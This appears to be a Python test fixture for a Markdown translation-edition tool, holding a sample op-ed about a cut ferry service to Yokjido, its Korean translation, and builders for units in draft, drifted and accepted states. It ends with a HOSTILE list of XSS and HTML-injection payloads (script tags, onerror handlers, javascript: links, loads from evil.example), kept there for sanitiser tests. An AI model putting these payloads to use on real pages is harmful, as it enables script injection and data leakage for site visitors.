"""An article with most constructs and its Korean, for tests of editions."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from typing import TypeVar

from translate_flow import state as states
from translate_flow.article import parse
from translate_flow.edition import Edition, build
from translate_flow.model import Catalog, Segment, State, Unit

T = TypeVar("T")

TODAY = "2026-11-24"

FERRY = """\
---
title: The Island Ferry Is Not a Luxury
description: Why the last boat should leave after supper, not before it.
author: Jane Reed
date: 2026-11-20
---

When the provincial assembly cut the evening ferry to Yokjido last month, it called
the decision *housekeeping*. The island's eleven hundred residents call it something
else: **a curfew**. The last boat now leaves at four.[^boat]

Nobody denies that the route loses money. It has lost money in every year since 1998,
and the province's own report, published at
https://example.org/reports/2026/very-long-address-without-any-break/ferry-subsidy-final-version.pdf,
says it will go on losing money. What the report does not say is what the island loses.

## What a curfew costs

> A road does not have to make a profit. Nobody asks the bridge at Tongyeong what it
> earned this year.
>
> We ask it only of boats.

Three things went missing with the evening crossing:

1. **Hospital appointments.** The clinic closes at noon on Fridays.
2. **School clubs.** Practice ends at five, an hour after the boat.
   - The football team has already lost two players.
   - The choir now meets by telephone.
3. **Supper.** It sounds small until you cannot have it.

| Crossing | Passengers | Cost per head |
|:---------|-----------:|--------------:|
| Morning | 212 | ₩4,100 |
| Noon | 96 | ₩7,800 |
| Evening, with freight and mail until October | 58 | ₩13,400 |

![A ferry at dusk](dusk.png)

- [x] Ask the residents
- [ ] Publish the answers

Subsidy
: What the province pays so that the boat sails.

```python
def subsidy(cost: int, fares: int) -> int:
    return max(0, cost - fares)  # long enough to scroll on a phone
```

### What should happen next

The assembly should restore the crossing for one winter, count the passengers, and
publish the figures. Read [the report](https://example.org/report "2026") first.

<div class="box"><p>Corrections are welcome.</p></div>

---

The boat is not late. We are.

[^boat]: From December to March it leaves at half past three.
"""

KOREAN: Mapping[str, str] = {
    "The Island Ferry Is Not a Luxury": "섬 여객선은 사치가 아니다",
    "Why the last boat should leave after supper, not before it.": (
        "막배는 저녁상을 물린 뒤에 떠나야 한다."
    ),
    "When the provincial": (
        "지난달 도의회는 욕지도 저녁 배편을 없애면서 그 결정을 *살림 정리*라고 불렀다. "
        "섬 주민 1100명은 다르게 부른다. **‘통행금지’**라고. 이제 막배는 네 시에 "
        "떠난다.[^boat]"
    ),
    "Nobody denies": (
        "이 항로가 적자라는 사실은 아무도 부인하지 않는다. 1998년 이후 흑자를 낸 해가 "
        "없고, 도가 펴낸 보고서"
        "(https://example.org/reports/2026/very-long-address-without-any-break/"
        "ferry-subsidy-final-version.pdf)도 적자가 이어지리라고 내다본다. 보고서가 "
        "말하지 않는 것은 섬이 무엇을 잃는가이다."
    ),
    "What a curfew costs": "통행금지의 값",
    "A road does": (
        "도로는 이윤을 내지 않아도 된다. 통영의 다리에게 올해 얼마를 벌었느냐고 묻는 "
        "사람은 없다."
    ),
    "We ask it": "그 질문은 배에게만 던진다.",
    "Three things": "저녁 배와 함께 세 가지가 사라졌다.",
    "**Hospital": "**병원 예약.** 보건소는 금요일이면 정오에 문을 닫는다.",
    "**School": "**방과 후 활동.** 연습은 배가 떠나고 한 시간 뒤인 다섯 시에 끝난다.",
    "The football": "축구부는 벌써 선수 둘을 잃었다.",
    "The choir": "합창단은 이제 전화로 모인다.",
    "**Supper": "**저녁 식사.** 사소하게 들리지만, 못 먹게 되어 보면 안다.",
    "Crossing": "배편",
    "Passengers": "승객",
    "Cost per head": "1인당 비용",
    "Morning": "아침",
    "Noon": "낮",
    "Evening, with": "저녁(10월까지 화물·우편 겸용)",
    "A ferry at": "해 질 녘의 여객선",
    "Ask the": "주민에게 묻기",
    "Publish the": "답을 공개하기",
    "Subsidy": "보조금",
    "What the province": "배가 다니도록 도가 내는 돈.",
    "What should": "다음에 할 일",
    "The assembly": (
        "도의회는 올겨울 한 철만이라도 저녁 배를 되살리고, 승객을 세고, 그 숫자를 "
        "공개해야 한다.\n\n그 전에 [보고서](https://example.org/report)부터 읽기를 "
        "권한다."
    ),
    "Corrections": "바로잡을 곳을 알려 주십시오.",
    "The boat is": "배가 늦은 것이 아니다. 우리가 늦었다.",
    "From December": "12월부터 3월까지는 세 시 반에 떠난다.",
}
"""Targets by the first words of their sources."""

UNFINISHED = {
    "Nobody denies": State.DRAFT,
    "The choir": State.UNTRANSLATED,
    "Noon": State.DRAFT,
    "The boat is": State.DRIFTED,
}


def edition(
    markdown: str = FERRY,
    korean: Mapping[str, str] = KOREAN,
    unfinished: Mapping[str, State] = UNFINISHED,
    *,
    proof: bool = True,
) -> Edition:
    """Return an English article with its Korean, all accepted but ``unfinished``."""
    article = parse(markdown, name="sources/ferry.md")
    units = tuple(unit(s, korean, unfinished) for s in article.segments)
    catalog = Catalog("sources/ferry.md", "en", "ko", units=units)
    return build("ferry", article, catalog, proof=proof)


def unit(
    segment: Segment, korean: Mapping[str, str], unfinished: Mapping[str, State]
) -> Unit:
    """Return a segment's unit in the state that is asked for."""
    target = first_words(korean, segment.text) or ""
    blank = states.born(Unit(f"k{segment.n}", segment.text, kind=segment.kind))
    state = first_words(unfinished, segment.text) or State.TRANSLATED
    if state is State.UNTRANSLATED or not target.strip():
        return blank
    if state is State.DRAFT:
        return states.drafted(blank, target, origin="google", today=TODAY)
    if state is State.DRIFTED:
        old = states.taken(
            replace(blank, source="Old words."), target, by="mina", today=TODAY
        )
        return states.followed(old, segment.text)
    return states.taken(blank, target, by="mina", today=TODAY)


def first_words(table: Mapping[str, T], text: str) -> T | None:
    """Return the value whose key the text begins with, the longest key first."""
    for key in sorted(table, key=len, reverse=True):
        if text.startswith(key):
            return table[key]
    return None


HOSTILE = (
    "<script>pwn()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT>pwn()//</script",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    '<img src="x" onerror="pwn()">',
    "<img src=x onerror=pwn()//",
    '<img src="https://evil.example/x.png">',
    '<img srcset="https://evil.example/x.png 2x" src="">',
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<body onload=pwn()>",
    "<details open ontoggle=pwn()><summary>x</summary></details>",
    "<video autoplay onloadstart=pwn()><source src=https://evil.example/v></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    '<iframe src="javascript:pwn()"></iframe>',
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    '<form action="https://evil.example/"><button autofocus onfocus=pwn()>x</form>',
    "<input autofocus onfocus=pwn()>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    '<span class="badge draft" id="s1">x</span>',
    '<a href="javascript:pwn()">x</a>',
    '<a href="java&#x09;script:pwn()">x</a>',
    '<a href=" &#14;  javascript:pwn()">x</a>',
    '<a href="data:text/html,<script>pwn()</script>">x</a>',
    '<a href="vbscript:pwn()" onclick="pwn()">x</a>',
    "[x](javascript:pwn())",
    "[x](<javascript:pwn()>)",
    "[x](JaVaScRiPt:pwn)",
    "![x](javascript:pwn())",
    "![x](https://evil.example/pixel.gif)",
    '![x](x.png"onerror="pwn())',
    '[x](https://e.org "a\\" onmouseover=\\"pwn()")',
    "<javascript:pwn()>",
    "</div></div></main></body></html>",
    "</p></td></tr></table>",
    "<div><div><div>",
    "<table><tr><td>",
    "<li></ul></ol></blockquote>",
    "<b><i><a href=https://e.org>",
    "<!--",
    "--><img src=x onerror=pwn()>",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    "<template><img src=x onerror=pwn()></template>",
    "<title></title><textarea></textarea><plaintext>",
    "<xmp></xmp><listing>",
    '<ruby lang="ko"><rt onclick=pwn()>',
    '" onmouseover="pwn()" x="',
    "'><img src=x onerror=pwn()>",
    "`</code><img src=x onerror=pwn()>`",
    "&lt;img src=x onerror=pwn()&gt; &#60;script&#62;pwn()&#60;/script&#62;",
    "\u2028\u2029\u202e\u0000<b\x0cx>",
)
"""What somebody could write into an article, its front matter or a translation to run a
script, to call home, or to break a page."""
